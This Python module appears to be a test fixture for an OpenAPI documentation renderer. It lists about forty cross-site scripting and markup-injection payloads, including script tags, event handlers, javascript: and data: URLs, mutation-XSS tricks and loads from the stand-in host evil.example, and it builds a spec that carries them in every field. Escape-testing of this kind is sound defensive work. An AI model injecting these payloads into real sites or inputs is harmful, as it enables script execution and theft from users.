"""Scripts that somebody may write into a document, and a document that has them all."""

from __future__ import annotations

import re
from typing import Any

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)//",
    "</title></head><body onload=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/i.png" onload="alert(1)">',
    "<img src=`x`onerror=alert(1)>",
    "<b onmouseover=alert(1)>bold</b>",
    "<b/onclick=alert(1)>bold</b>",
    '<p style="background:url(https://evil.example)">styled</p>',
    "<style>*{background:url(https://evil.example)}</style>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example>",
    "<form action=javascript:alert(1)><button formaction=javascript:x>go</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVa&#x73;cript:alert(1))",
    "[x](java\nscript:alert(1)) [y](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:msgbox)",
    "![x](https://evil.example/i.png) ![y](javascript:alert(1))",
    '![x" onerror="alert(1)](https://evil.example/i.png "t\\" onload=alert(1)")',
    "<javascript:alert(1)> <data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "<a href='&#106;avascript:alert(1)' onclick=alert(1)>x</a>",
    '<a href="https://e.example/" target=_blank onfocus=alert(1) autofocus>x</a>',
    "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7 %> #{7}",
    "\u2028\u2029\x00\x0b\x7f\u202e\ufeff'\"`\\ ]]> --> */",
    "\"><script>alert(1)</script> '><img src=x onerror=alert(1)> <Pay> List<String>",
]


def _schema(text: str, name: str) -> dict[str, Any]:
    return {
        "type": "object",
        "title": text,
        "description": text,
        "externalDocs": {"url": text, "description": text},
        "required": [text],
        "properties": {
            text: {"type": "string", "description": text, "default": text},
            "kind": {
                "type": "string",
                "enum": [text, f"other {text}"],
                "x-enumDescriptions": {text: text},
                "x-enum-varnames": [text, "OTHER"],
            },
            "choice": {"oneOf": [{"const": text, "title": text}, {"const": name}]},
            "limited": {"type": "string", "pattern": re.escape(text), "example": text},
        },
        "example": {text: text, "kind": text},
    }


def _operation(text: str, number: int) -> dict[str, Any]:
    schema = {"$ref": f"#/components/schemas/Model{number}"}
    content = {"application/json": {"schema": schema, "example": {text: text}}}
    answer = {
        "description": text,
        "headers": {"X-Header": {"description": text, "schema": {"type": "string"}}},
        "content": content,
        "links": {"next": {"operationId": text, "description": text}},
    }
    parameters = [
        {
            "name": text,
            "in": place,
            "description": text,
            "example": text,
            "schema": {"type": "string", "default": text, "enum": [text]},
        }
        for place in ("query", "cookie")
    ]
    return {
        "operationId": text,
        "tags": [text],
        "summary": text,
        "description": text,
        "externalDocs": {"url": text, "description": text},
        "security": [{f"scheme{number}": [text]}],
        "parameters": parameters,
        "requestBody": {"description": text, "content": content},
        "responses": {"200": answer, "400": answer, "default": {"description": text}},
        "callbacks": {
            "called": {
                f"https://e.example/{text}": {
                    "post": {
                        "summary": text,
                        "description": text,
                        "requestBody": {"content": content},
                        "responses": {"200": {"description": text}},
                    }
                }
            }
        },
    }


def _scheme(text: str) -> dict[str, Any]:
    flow = {"authorizationUrl": text, "tokenUrl": text, "scopes": {text: text}}
    flows = {"authorizationCode": flow}
    return {"type": "oauth2", "description": text, "flows": flows}


def unsafe_document(payloads: list[str]) -> dict[str, Any]:
    """A document with these payloads in every kind of text."""
    numbered = list(enumerate(payloads))
    together = "\n\n".join(payloads)
    return {
        "openapi": "3.1.0",
        "info": {
            "title": " ".join(payloads),
            "version": together,
            "summary": together,
            "description": together,
            "termsOfService": payloads[0],
            "contact": {"name": together, "url": "javascript:alert(1)", "email": "x"},
            "license": {"name": together, "url": "data:text/html,x"},
        },
        "externalDocs": {"url": "vbscript:x", "description": together},
        "servers": [
            {
                "url": "https://e.example/{v}" + re.sub(r"[{}]", "", text),
                "description": text,
                "variables": {
                    "v": {"default": text, "enum": [text], "description": text}
                },
            }
            for text in payloads
        ],
        "tags": [
            {
                "name": text,
                "description": text,
                "externalDocs": {"url": text, "description": text},
            }
            for text in payloads
        ],
        "paths": {f"/p{n}": {"post": _operation(text, n)} for n, text in numbered},
        "webhooks": {
            text: {
                "post": {
                    "summary": text,
                    "description": text,
                    "responses": {"200": {"description": text}},
                }
            }
            for text in payloads
        },
        "components": {
            "schemas": {f"Model{n}": _schema(text, f"m{n}") for n, text in numbered},
            "securitySchemes": {f"scheme{n}": _scheme(text) for n, text in numbered},
        },
    }
